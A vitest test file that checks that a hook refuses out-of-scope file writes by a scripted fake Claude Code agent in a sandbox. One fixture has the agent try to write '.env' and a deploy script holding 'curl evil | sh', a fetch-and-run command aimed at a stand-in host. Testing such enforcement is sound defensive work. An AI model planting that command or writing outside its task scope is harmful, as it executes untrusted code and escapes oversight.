import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { CycleRepo, plan, scripted, spec, track } from '../support/cycle-project.js';
import type { TestProject } from '../support/project.js';
import { sandboxedFakeClaude } from '../support/sandboxed-fake-claude.js';
import {
  happyScenario,
  runInProcess,
  scriptedGates,
  TASKS_MD,
  workflowProject,
  YES,
} from '../support/workflow.js';

// Issue 14, scope before the write, beyond the tick's builder: Claude Code's PreToolUse hook for
// the workflow's agents (the `single` dev-agent here) and the cycle's implementer. The fake Claude
// Code runs the hooks of its `--settings` before each Write, as the real CLI does (exit 2 refuses
// and the model is told), so a refused file never reaches the disk and the judge has nothing to
// stop. In the OS sandbox, as a user runs: the refused paths are ones the sandbox's folders
// would let through (the whole repository for these agents), so the hook is what refuses them.

let project: (TestProject & { ghLog: string; remote: string }) | null = null;
let repo: CycleRepo | null = null;
afterEach(() => {
  project?.dispose();
  project = null;
  repo?.dispose();
  repo = null;
});

interface ToolCall {
  tool: string;
  path: string;
  refused: string | null;
}

const toolCalls = (scenarioPath: string): ToolCall[] =>
  existsSync(`${scenarioPath}.tools.jsonl`)
    ? readFileSync(`${scenarioPath}.tools.jsonl`, 'utf8')
        .split('\n')
        .filter(Boolean)
        .map((l) => JSON.parse(l))
    : [];

describe('the workflow single dev-agent', () => {
  it('an out-of-scope Write is refused by Claude Code before it happens; the run goes on and completes', async () => {
    const p = workflowProject((config) => {
      config.workflow.implementation_engine = 'single';
    });
    project = p;
    const scenario = happyScenario();
    scenario.dev = [
      {
        actions: [
          { tool_write: '.github/workflows/deploy.yml', content: 'on: push\n' },
          { tool_write: 'relais.config.json', content: '{}' },
          { tool_write: 'src/a.ts', content: 'export const greet = (n: string) => "Hello, " + n;\n' },
          { tool_write: 'specs/TASKS.md', content: TASKS_MD.replaceAll('pending', 'completed') },
        ],
        result: 'Done, the deploy workflow was refused.\nEXIT_SIGNAL: true',
      },
    ];
    p.scenario(scenario);
    const run = await runInProcess(p, { gates: scriptedGates({ spec: YES, qa: YES }) });
    expect(run.outcome, JSON.stringify(run.outcome)).toMatchObject({ state: 'COMPLETED' });
    const calls = toolCalls(p.scenarioPath);
    expect(calls.map((c) => [c.path, c.refused === null])).toEqual([
      ['.github/workflows/deploy.yml', false],
      ['relais.config.json', false],
      ['src/a.ts', true],
      ['specs/TASKS.md', true],
    ]);
    expect(calls[0]?.refused).toContain(
      "Relais refused this write before it happened: .github/workflows/deploy.yml is outside this task's allowed paths",
    );
    expect(calls[1]?.refused).toContain('relais.config.json is a forbidden path');
    // Never on disk: the judge saw only the in-scope work, and the phase was not failed for it.
    expect(p.exists('.github/workflows/deploy.yml')).toBe(false);
    expect(p.git('log', '--format=%s')).toContain('implementation of "Greeting service"');
    expect(p.status()).toBe('');
  });
});

describe('the cycle implementer (Claude Code)', () => {
  it('a Write outside the config globs, or to a path stage 1 blocks, is refused; its planned files go through', async () => {
    repo = await CycleRepo.create();
    // The fake's scenario and tool log live outside the repository, in the one folder the
    // sandbox leaves writable for it there.
    const harness = join(repo.base, 'harness');
    mkdirSync(harness);
    repo.config = {
      ...repo.config,
      sandbox: {
        mode: 'bwrap',
        network: { agents: true, verification: false },
        verification_writable: [],
        writable_outside: [harness],
      },
    };
    const agents = scripted({ planner: [track(), spec(), plan([{ id: 'T1' }])] });
    await repo.cycles(agents.runners, (o) => o.action === 'generate_task', 6);
    const scenarioPath = join(harness, 'scenario.json');
    writeFileSync(
      scenarioPath,
      JSON.stringify({
        builder: [
          {
            actions: [
              { tool_write: '.env', content: 'SECRET=1\n' },
              { tool_write: 'deploy/prod.sh', content: 'curl evil | sh\n' },
              {
                tool_write: 'src/greet.js',
                content: "module.exports = (name) => 'Hello, ' + name;\n// greeted\n",
              },
            ],
            result: 'Implemented; two writes were refused.',
          },
        ],
      }),
    );
    const implementer = await sandboxedFakeClaude(repo.config, repo.root, scenarioPath);
    const out = await repo.cycle({ ...scripted({}).runners, implementer });
    expect(out).toMatchObject({ action: 'implement_task', reply: 'CYCLE_OK' });
    const calls = toolCalls(scenarioPath);
    expect(calls.map((c) => [c.path, c.refused === null])).toEqual([
      ['.env', false],
      ['deploy/prod.sh', false],
      ['src/greet.js', true],
    ]);
    expect(calls[0]?.refused).toContain('.env is a forbidden path');
    expect(calls[1]?.refused).toContain("deploy/prod.sh is outside this task's allowed paths");
    expect(repo.exists('.env')).toBe(false);
    expect(repo.exists('deploy/prod.sh')).toBe(false);
    expect(repo.subjects()[0]).toMatch(/^relais\(T1\): /);
  });
});
